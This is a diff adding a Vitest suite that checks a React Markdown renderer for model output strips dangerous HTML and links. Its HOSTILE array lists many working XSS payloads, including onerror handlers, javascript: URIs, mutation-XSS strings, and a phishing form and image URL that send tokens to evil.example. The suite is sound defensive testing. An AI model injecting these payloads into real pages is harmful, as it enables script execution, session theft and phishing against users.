@@ -1,0 +1,146 @@
+import { act } from 'react'
+import { createRoot } from 'react-dom/client'
+import { beforeAll, describe, expect, test, vi } from 'vitest'
+import { TooltipProvider } from '@/design/Tooltip'
+import { Markdown } from './Markdown'
+
+beforeAll(() => vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true))
+
+async function show(source: string, streaming = false): Promise<HTMLElement> {
+  const host = document.createElement('div')
+  const root = createRoot(host)
+  await act(async () =>
+    root.render(
+      <TooltipProvider>
+        <Markdown source={source} streaming={streaming} />
+      </TooltipProvider>,
+    ),
+  )
+  return host
+}
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" &#106;avascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="/api/auth/logout">x</a>',
+  '<a href="//evil.example/x">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](  javascript:alert(1) "t")',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](file:///etc/passwd)',
+  '![x](javascript:alert(1))',
+  '![x](https://evil.example/?leak=secret)',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<style>*{display:none}</style>',
+  '<p style="position:fixed;inset:0;background:red">x</p>',
+  '<div class="fixed inset-0 bg-raised">pretend to be the app</div>',
+  '<code class="language-x fixed inset-0">x</code>',
+  '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
+  '<input type="image" src=x onerror=alert(1)>',
+  '<input type="text" autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<a id=root name=getElementById href="https://ok.example">clobber</a>',
+  '<span data-message="x" aria-label="Send" role="button" tabindex="0" contenteditable>x</span>',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><img src=x onerror=alert(1)>\nx\n```',
+  '$\\href{javascript:alert(1)}{x}$',
+  '$$\\htmlStyle{position:fixed}{x}$$',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '`<img src=x onerror=alert(1)>`',
+  '\u202ejavascript:alert(1)',
+]
+
+const FORBIDDEN = 'script, iframe, object, embed, style, link, meta, base, form, img, video, audio, source, template, noscript, math [href], [srcdoc], [contenteditable], button[type=submit]'
+const ALLOWED_ATTRIBUTES = new Set([
+  'class', 'dir', 'href', 'title', 'target', 'rel', 'tabindex', 'role', 'aria-label', 'aria-hidden', 'data-thinking', 'type', 'checked', 'readonly',
+  'colspan', 'rowspan', 'align', 'start', 'open', 'lang', 'data-state', 'width', 'height', 'viewBox', 'fill', 'stroke', 'stroke-width',
+  'stroke-linecap', 'stroke-linejoin', 'd', 'x', 'y', 'rx', 'ry', 'xmlns',
+])
+
+function checkHarmless(host: HTMLElement): void {
+  expect(host.querySelector(FORBIDDEN)?.outerHTML ?? null).toBeNull()
+  for (const element of host.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on/)
+      // Inside of a formula the typesetter decides; it is told to trust nothing.
+      if (!element.closest('.katex, .katex-display')) expect(ALLOWED_ATTRIBUTES, `${name}="${value}" on ${element.tagName}`).toContain(name)
+    }
+    const href = element.getAttribute('href')
+    if (href !== null) {
+      expect(href).toMatch(/^(?:https?:\/\/|mailto:)/)
+      expect(element.getAttribute('rel')).toBe('noopener noreferrer')
+    }
+  }
+  // Nothing that was written can wear the app's own clothes.
+  expect(host.querySelector('.fixed')).toBeNull()
+  expect(host.querySelector('[id], [name]')).toBeNull()
+  expect([...host.querySelectorAll('[style]')].filter((element) => !element.closest('.katex'))).toEqual([])
+}
+
+describe('what a model writes', () => {
+  test.each(HOSTILE)('does no harm: %s', async (source) => {
+    checkHarmless(await show(source))
+    checkHarmless(await show(source, true))
+  })
+
+  test('does no harm however the stream is cut', async () => {
+    const source = HOSTILE.join('\n\n')
+    for (let cut = 0; cut < source.length; cut += 101) checkHarmless(await show(source.slice(0, cut), true))
+  })
+
+  test('keeps what is harmless', async () => {
+    const host = await show(
+      'A [link](https://example.org "t"), <kbd>Ctrl</kbd>, H<sub>2</sub>O, ~~no~~ and <mailto:a@b.example>\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done',
+    )
+    expect(host.querySelector('a')?.getAttribute('href')).toBe('https://example.org')
+    expect(host.querySelector('kbd')?.textContent).toBe('Ctrl')
+    expect(host.querySelector('sub')?.textContent).toBe('2')
+    expect([...host.querySelectorAll('td')].map((cell) => cell.getAttribute('align'))).toEqual([null, 'right'])
+    expect((await show('7. seven')).querySelector('ol')?.start).toBe(7)
+    expect(host.querySelector<HTMLInputElement>('input[type=checkbox]')?.checked).toBe(true)
+    expect([...host.querySelectorAll('a')].at(-1)?.getAttribute('href')).toBe('mailto:a@b.example')
+  })
+
+  test('shows a picture from elsewhere as a link, so that nothing is fetched', async () => {
+    const host = await show('![a cat](https://example.org/cat.png)')
+    expect(host.querySelector('img')).toBeNull()
+    expect(host.querySelector('a')?.textContent).toBe('a cat')
+  })
+
+  test('reads in its own direction', async () => {
+    const host = await show('שלום\n\n- سلام')
+    expect(host.querySelector('p')?.getAttribute('dir')).toBe('auto')
+    expect(host.querySelector('li')?.getAttribute('dir')).toBe('auto')
+  })
+
+  test('has headings below the page’s own', async () => {
+    expect((await show('# One')).querySelector('h3')?.textContent).toBe('One')
+  })
+
+  test('carries the cursor at the end of the last words', async () => {
+    const host = await show('- one\n- two **bold**', true)
+    const items = host.querySelectorAll('li')
+    expect(items[1]?.lastElementChild?.className).toBe('moon-cursor')
+    expect(host.querySelectorAll('.moon-cursor')).toHaveLength(1)
+  })
+})
